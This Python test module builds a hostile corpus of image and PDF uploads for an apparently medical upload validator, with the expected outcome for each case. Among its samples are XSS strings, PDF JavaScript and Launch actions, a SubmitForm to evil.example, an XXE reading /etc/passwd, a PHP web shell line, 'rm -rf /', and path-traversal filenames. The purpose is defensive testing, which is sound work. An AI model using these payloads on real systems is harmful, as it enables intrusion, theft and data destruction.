"""A hostile corpus of uploads, generated in code (no binaries in the repository): what patients' phones really send
and what an attacker would try (FIL-2). Each case is a name, the bytes (built lazily: the big ones only when their
test runs) and what must happen: ``ACCEPT`` or the set of refusal codes allowed."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import pikepdf
from PIL import Image

ACCEPT = "accept"
MB = 1024 * 1024
MAX_BYTES = 8 * MB


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    build: Callable[[], bytes]
    expect: frozenset[str]
    #: Bytes that must not survive in the stored file of an accepted case.
    absent: tuple[bytes, ...] = ()
    #: ``(width, height)`` the stored picture must have (EXIF orientation applied).
    size: tuple[int, int] | None = None
    tags: frozenset[str] = field(default_factory=frozenset)


def _case(
    id: str,
    name: str,
    build: Callable[[], bytes],
    *expect: str,
    absent: tuple[bytes, ...] = (),
    size: tuple[int, int] | None = None,
    tags: tuple[str, ...] = (),
) -> Case:
    return Case(id, name, build, frozenset(expect), absent, size, frozenset(tags))


# --- builders ---------------------------------------------------------------------------------------------------


def image(fmt: str, *, size: tuple[int, int] = (16, 12), mode: str = "RGB", seed: int = 0, **save: object) -> bytes:
    rng = random.Random(seed)
    picture = Image.new("RGB", size, (rng.randrange(256), rng.randrange(256), rng.randrange(256)))
    for x in range(0, size[0], 3):
        picture.putpixel((x, x % size[1]), (rng.randrange(256), 0, 0))
    if mode != "RGB":
        picture = picture.convert(mode)
    out = io.BytesIO()
    picture.save(out, format=fmt, **save)
    return out.getvalue()


def jpeg_with_exif(*, gps: bool = True, orientation: int | None = None, size: tuple[int, int] = (20, 10)) -> bytes:
    picture = Image.new("RGB", size, (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if orientation is not None:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 13.0, 37.0), 3: "E", 4: (21.0, 0.0, 42.0)}  # GPSInfo: Warsaw
    out = io.BytesIO()
    picture.save(out, format="JPEG", exif=exif.tobytes(), icc_profile=b"ICC-PROFILE-TRICK" * 4)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_with_chunk_before_end(data: bytes, chunk: bytes) -> bytes:
    end = data.rindex(b"IEND") - 4
    return data[:end] + chunk + data[end:]


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares ``width`` × ``height`` pixels (a decompression bomb's shape)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" + b"\x00" * 3 * min(width, 64))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) is rewritten to declare ``width`` × ``height``."""
    data = bytearray(image("JPEG", size=(16, 16)))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def zip_bytes(name: str = "payload.js", content: bytes = b"alert(document.cookie)") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def pdf(*, pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(document)
    out = io.BytesIO()
    if "static_id" not in save and "encryption" not in save:
        # qpdf derives the trailer's /ID from the clock by default: the same document made in the next second would
        # be other bytes, and an Idempotency-Key retry of it a different request. (qpdf cannot derive one for an
        # encrypted file; those are never retried.)
        save.setdefault("deterministic_id", True)
    document.save(out, **save)
    return out.getvalue()


def reportlab_pdf(text: str = "Wypis ze szpitala") -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    sheet = canvas.Canvas(out, pagesize=A4)
    sheet.drawString(72, 760, text)
    sheet.showPage()
    sheet.save()
    return out.getvalue()


def _js(code: str = "app.alert('x')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def _open_action(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(_js())


def _page_aa(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=_js())


def _catalog_aa(document: pikepdf.Pdf) -> None:
    document.Root.AA = pikepdf.Dictionary(WC=_js())


def _names_js(document: pikepdf.Pdf) -> None:
    tree = pikepdf.Array([pikepdf.String("boot"), document.make_indirect(_js())])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=tree))


def _annotation(document: pikepdf.Pdf, action: pikepdf.Dictionary, subtype: str = "/Link") -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 100, 100], A=action
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


def _link_js(document: pikepdf.Pdf) -> None:
    _annotation(document, _js())


def _launch(document: pikepdf.Pdf) -> None:
    _annotation(document, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def _launch_open(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))


def _uri_file(document: pikepdf.Pdf) -> None:
    _annotation(document, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///etc/passwd")))


def _uri_https(document: pikepdf.Pdf) -> None:
    _annotation(document, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://carenet.example/")))


def _goto(document: pikepdf.Pdf) -> None:
    page = document.pages[0].obj
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([page, pikepdf.Name.Fit]))


def _submit(document: pikepdf.Pdf) -> None:
    _annotation(document, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example")))


def _gotor(document: pikepdf.Pdf) -> None:
    _annotation(document, pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf")))


def _import_data(document: pikepdf.Pdf) -> None:
    _annotation(document, pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")))


def _embedded(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"MZ\x90\x00 payload", Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"), EF=pikepdf.Dictionary(F=stream))
    tree = pikepdf.Array([pikepdf.String("x.exe"), document.make_indirect(spec)])
    document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=tree))


def _file_attachment(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"payload")
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.js"), EF=pikepdf.Dictionary(F=stream))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


def _rich_media(document: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=[0, 0, 9, 9],
        RichMediaContent=pikepdf.Dictionary(),
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annotation)])


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>")
    )


def _custom_key_js(document: pikepdf.Pdf) -> None:
    """JavaScript under a key no reader knows: not where a catalogue check looks, still refused."""
    document.Root.Hidden = document.make_indirect(_js("this.exportDataObject({cName: 'x', nLaunch: 2})"))


def orphan_js() -> bytes:
    """JavaScript in an object nothing refers to, slipped in before the cross-reference table: still in the file
    (a reader that rebuilds the table finds it), still refused (every object is walked)."""
    clean = pdf()
    at = clean.rindex(b"\nxref") + 1
    orphan = b"99 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    return clean[:at] + orphan + clean[at:]


def _deep_js(document: pikepdf.Pdf) -> None:
    """JavaScript a few direct dictionaries deep inside the page's resources."""
    document.pages[0].obj.Resources = pikepdf.Dictionary(
        XObject=pikepdf.Dictionary(Deep=pikepdf.Dictionary(Inner=pikepdf.Array([pikepdf.Dictionary(A=_js())])))
    )


def encrypted(**options: object) -> bytes:
    return pdf(encryption=pikepdf.Encryption(**options))  # type: ignore[arg-type]


def exactly(size: int, fmt: str = "PNG") -> bytes:
    """A valid PNG of exactly ``size`` bytes: random pixels (they do not compress) padded with a text chunk."""
    rng = random.Random(size)
    side = 1400
    picture = Image.frombytes("RGB", (side, side), rng.randbytes(side * side * 3))
    out = io.BytesIO()
    picture.save(out, format=fmt, compress_level=1)
    data = out.getvalue()
    room = size - len(data) - 12
    assert room >= 0, "the picture is already larger than asked"
    return png_with_chunk_before_end(data, png_chunk(b"tEXt", b"c\x00" + b"x" * (room - 2)))


def _html_pdf() -> bytes:
    return b"<html><body><script>alert(1)</script></body></html>\n" + pdf()


def _heic() -> bytes:
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64


# --- the corpus -------------------------------------------------------------------------------------------------


def build_corpus() -> list[Case]:
    cases: list[Case] = []
    add = cases.append
    broken_image = ("image_broken",)
    # Valid pictures of every kind a phone or a scanner sends: accepted, re-encoded.
    for index, mode in enumerate(["RGB", "L", "RGBA", "P", "LA", "1", "I;16", "CMYK"]):
        fmt = "JPEG" if mode == "CMYK" else "PNG"
        add(_case(f"png-mode-{mode}", f"mode{index}.png", lambda m=mode, f=fmt: image(f, mode=m), ACCEPT))
    for seed in range(12):
        size = (1 + seed * 7, 1 + (seed * 13) % 40)
        add(
            _case(
                f"png-valid-{seed}", f"zdjecie_{seed}.png", lambda s=seed, z=size: image("PNG", size=z, seed=s), ACCEPT
            )
        )
        add(
            _case(
                f"jpeg-valid-{seed}",
                f"IMG_{5229 + seed}.JPEG",
                lambda s=seed, z=size: image("JPEG", size=z, seed=s, quality=30 + s * 5),
                ACCEPT,
            )
        )
    add(_case("jpeg-progressive", "p.jpg", lambda: image("JPEG", progressive=True, size=(64, 48)), ACCEPT))
    add(_case("jpeg-grey", "g.jpg", lambda: image("JPEG", mode="L"), ACCEPT))
    add(_case("png-interlaced", "i.png", lambda: image("PNG", interlace=1), ACCEPT))
    # Metadata goes: GPS, the maker, the ICC profile; orientation is applied first.
    gps = (b"PhoneMaker", b"ICC-PROFILE-TRICK", b"Exif\x00\x00")
    add(_case("jpeg-exif-gps", "gps.jpg", jpeg_with_exif, ACCEPT, absent=gps, tags=("gps",)))
    for orientation in range(1, 9):
        size = (10, 20) if orientation >= 5 else (20, 10)
        add(
            _case(
                f"jpeg-orientation-{orientation}",
                f"o{orientation}.jpg",
                lambda o=orientation: jpeg_with_exif(gps=True, orientation=o),
                ACCEPT,
                absent=gps,
                size=size,
            )
        )
    script = b"<script>alert(document.domain)</script>"
    add(
        _case(
            "png-text-chunk-script",
            "t.png",
            lambda: png_with_chunk_before_end(image("PNG"), png_chunk(b"tEXt", b"Comment\x00" + script)),
            ACCEPT,
            absent=(script,),
        )
    )
    add(_case("png-appended-script", "a.png", lambda: image("PNG") + script, ACCEPT, absent=(script,)))
    add(_case("jpeg-appended-script", "a.jpg", lambda: image("JPEG") + script, ACCEPT, absent=(script,)))
    add(_case("jpeg-zip-polyglot", "poly.jpg", lambda: image("JPEG") + zip_bytes(), ACCEPT, absent=(b"PK\x03\x04",)))
    add(_case("png-zip-polyglot", "poly.png", lambda: image("PNG") + zip_bytes(), ACCEPT, absent=(b"PK\x03\x04",)))
    add(
        _case("png-html-polyglot", "poly.html.png", lambda: image("PNG") + b"<html>" + script, ACCEPT, absent=(script,))
    )
    add(_case("gifar", "gifar.png", lambda: image("GIF") + zip_bytes("Evil.class"), "file_type"))
    # A JPEG renamed .pdf and a PDF renamed .jpg: the content decides (and the name gets the right extension).
    add(_case("jpeg-named-pdf", "skan.pdf", lambda: image("JPEG"), ACCEPT))
    add(_case("pdf-named-jpg", "wypis.jpg", pdf, ACCEPT))
    # Truncated and damaged pictures.
    for cut in (0.15, 0.3, 0.5, 0.7, 0.85):
        add(_case(f"png-truncated-{cut}", "cut.png", lambda c=cut: _cut(image("PNG", size=(64, 64)), c), *broken_image))
        add(
            _case(
                f"jpeg-truncated-{cut}", "cut.jpg", lambda c=cut: _cut(image("JPEG", size=(64, 64)), c), *broken_image
            )
        )
    add(_case("png-signature-only", "sig.png", lambda: b"\x89PNG\r\n\x1a\n", *broken_image))
    add(_case("jpeg-soi-only", "soi.jpg", lambda: b"\xff\xd8\xff", *broken_image))
    add(_case("png-bad-crc", "crc.png", lambda: _flip(image("PNG"), 29), *broken_image))
    add(_case("png-zero-width", "w0.png", lambda: png_declaring(0, 10), *broken_image))
    add(_case("png-garbage-idat", "g.png", _png_garbage_idat, *broken_image))
    for index in range(8):
        add(_case(f"jpeg-noise-{index}", "n.jpg", lambda i=index: _jpeg_noise(i), *broken_image))
    # Decompression bombs: the declared size is refused before any pixel is decoded.
    for width, height in [
        (100_000, 100_000),
        (65_535, 65_535),
        (7_000, 7_000),
        (13_000, 10),
        (10, 40_001),
        (50_000, 1_000),
    ]:
        add(
            _case(f"png-bomb-{width}x{height}", "bomb.png", lambda w=width, h=height: png_declaring(w, h), "image_bomb")
        )
    for width, height in [(60_000, 60_000), (20_000, 20_000), (8_000, 6_000), (12_001, 100)]:
        add(
            _case(
                f"jpeg-bomb-{width}x{height}", "bomb.jpg", lambda w=width, h=height: jpeg_declaring(w, h), "image_bomb"
            )
        )
    # PDFs: clean ones accepted (and written out again); active content refused wherever it hides.
    add(_case("pdf-blank", "wypis.pdf", pdf, ACCEPT))
    add(_case("pdf-reportlab", "wypis_ze_szpitala.pdf", reportlab_pdf, ACCEPT))
    add(_case("pdf-pages", "many.pdf", lambda: pdf(pages=12), ACCEPT))
    add(_case("pdf-link-https", "link.pdf", lambda: pdf(change=_uri_https), ACCEPT))
    add(_case("pdf-open-goto", "goto.pdf", lambda: pdf(change=_goto), ACCEPT))
    html = b"<html><script>alert(1)</script></html>"
    add(_case("pdf-html-appended", "poly.pdf", lambda: pdf() + html, ACCEPT, absent=(html,)))
    add(_case("pdf-zip-appended", "poly2.pdf", lambda: pdf() + zip_bytes(), ACCEPT, absent=(b"PK\x03\x04",)))
    add(_case("html-pdf-polyglot", "poly3.pdf", _html_pdf, "file_type"))
    add(_case("pdf-bom", "bom.pdf", lambda: b"\xef\xbb\xbf" + pdf(), "file_type"))
    add(_case("pdf-leading-space", "sp.pdf", lambda: b"\n" + pdf(), "file_type"))
    active = {
        "open-action-js": _open_action,
        "page-aa": _page_aa,
        "catalog-aa": _catalog_aa,
        "names-js": _names_js,
        "link-js": _link_js,
        "launch-link": _launch,
        "launch-open": _launch_open,
        "uri-file": _uri_file,
        "submit-form": _submit,
        "gotor": _gotor,
        "import-data": _import_data,
        "embedded-file": _embedded,
        "file-attachment": _file_attachment,
        "rich-media": _rich_media,
        "xfa": _xfa,
        "custom-key-js": _custom_key_js,
        "deep-js": _deep_js,
    }
    for label, change in active.items():
        add(_case(f"pdf-{label}", f"{label}.pdf", lambda c=change: pdf(change=c), "pdf_active"))
        # The same hidden in object streams (compressed, not visible as text in the file).
        add(
            _case(
                f"pdf-{label}-objstm",
                f"{label}-objstm.pdf",
                lambda c=change: pdf(change=c, object_stream_mode=pikepdf.ObjectStreamMode.generate),
                "pdf_active",
            )
        )
        add(_case(f"pdf-{label}-appended-to-clean", f"{label}-inc.pdf", lambda c=change: _incremental(c), "pdf_active"))
    for label, options in {
        "rc4": {"owner": "o", "user": "u", "R": 3, "aes": False, "metadata": False},
        "aes128": {"owner": "o", "user": "u", "R": 4, "aes": True},
        "aes256": {"owner": "o", "user": "u", "R": 6},
        "owner-only": {"owner": "o", "user": ""},
        "aes256-owner-only": {"owner": "o", "user": "", "R": 6},
    }.items():
        add(_case(f"pdf-encrypted-{label}", "secret.pdf", lambda o=options: encrypted(**o), "pdf_encrypted"))
    # Refused when the reader sees it; when it does not, the PDF written out again leaves it behind.
    add(_case("pdf-orphan-js", "orphan.pdf", orphan_js, "pdf_active", ACCEPT, absent=(b"JavaScript", b"app.alert")))
    add(_case("pdf-header-only", "h.pdf", lambda: b"%PDF-1.7\n", "pdf_broken"))
    add(_case("pdf-garbage", "g.pdf", lambda: b"%PDF-1.4\n" + random.Random(5).randbytes(2000), "pdf_broken"))
    for cut in (0.2, 0.5, 0.8):
        # qpdf may rebuild a truncated PDF; then it is a clean PDF again. Either way nothing active gets through.
        add(_case(f"pdf-truncated-{cut}", "t.pdf", lambda c=cut: _cut(reportlab_pdf(), c), ACCEPT, "pdf_broken"))
    # Not a picture or a PDF, whatever the name says.
    others = {
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        "html": b"<!doctype html><html><script>alert(1)</script></html>",
        "gif": image("GIF"),
        "webp": image("WEBP"),
        "bmp": image("BMP"),
        "tiff": image("TIFF"),
        "ico": image("ICO"),
        "heic": _heic(),
        "zip": zip_bytes(),
        "exe": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run in DOS mode",
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
        "text": "Wyniki badań: wszystko w normie".encode(),
        "json": b'{"a": 1}',
        "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "postscript": b"%!PS-Adobe-3.0\n(hi) show",
        "rtf": b"{\\rtf1\\ansi hello}",
        "php": b"<?php system($_GET['c']); ?>",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "jpeg-magic-in-middle": b"xx\xff\xd8\xff\xe0",
        "nul-bytes": b"\x00" * 100,
    }
    for label, content in others.items():
        for extension in ("png", "jpg", "pdf"):
            add(_case(f"other-{label}-as-{extension}", f"{label}.{extension}", lambda c=content: c, "file_type"))
    add(_case("empty", "empty.png", lambda: b"", "file_empty"))
    add(_case("empty-pdf-name", "empty.pdf", lambda: b"", "file_empty"))
    # Sizes: the limit is inclusive; one byte more is refused before the content is looked at.
    add(_case("exactly-8mb", "big.png", lambda: exactly(MAX_BYTES), ACCEPT, tags=("big",)))
    add(_case("8mb-plus-one", "big.png", lambda: exactly(MAX_BYTES) + b"\x00", "file_too_large", tags=("big",)))
    add(_case("10mb", "huge.jpg", lambda: b"\xff\xd8\xff" + b"\x00" * (10 * MB), "file_too_large", tags=("big",)))
    # Names: only shown, never used to store; cleaned, with the extension of the real format.
    names = [
        "../../etc/passwd.png",
        "..\\..\\windows\\system32\\x.png",
        "C:\\x.png",
        "/absolute/path.png",
        "a\x00b.png",
        "nul\x00.php",
        "\u202egnp.exe",
        "zdjęcie łokcia 😷.png",
        "ملف.png",
        "文件.png",
        "x" * 500 + ".png",
        ".htaccess",
        "...",
        " ",
        "CON",
        "x.php.png",
        "<script>alert(1)</script>.png",
        "%2e%2e%2fetc.png",
        "a\r\nContent-Type: text/html.png",
        "e\u0301\u0301\u0301.png",
        "\ufeffbom.png",
    ]
    for index, name in enumerate(names):
        add(_case(f"name-{index}", name, lambda i=index: image("PNG", seed=i), ACCEPT, tags=("name",)))
        add(_case(f"name-pdf-{index}", name, pdf, ACCEPT, tags=("name",)))
    return cases


def _cut(data: bytes, fraction: float) -> bytes:
    return data[: max(1, int(len(data) * fraction))]


def _flip(data: bytes, at: int) -> bytes:
    changed = bytearray(data)
    changed[at] ^= 0xFF
    return bytes(changed)


def _png_garbage_idat() -> bytes:
    header = struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"not zlib at all" * 4)
        + png_chunk(b"IEND", b"")
    )


def _jpeg_noise(seed: int) -> bytes:
    data = bytearray(image("JPEG", size=(48, 48), seed=seed))
    rng = random.Random(seed)
    start = data.index(b"\xff\xda")  # the scan: noise there, and a cut, leaves a picture Pillow cannot finish
    for _ in range(20):
        data[rng.randrange(start + 10, len(data) - 2)] = rng.randrange(256)
    return bytes(data[: len(data) * 2 // 3])


def _incremental(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    """A clean PDF with a second document appended after its ``%%EOF`` that carries the active content."""
    return pdf() + pdf(change=change)
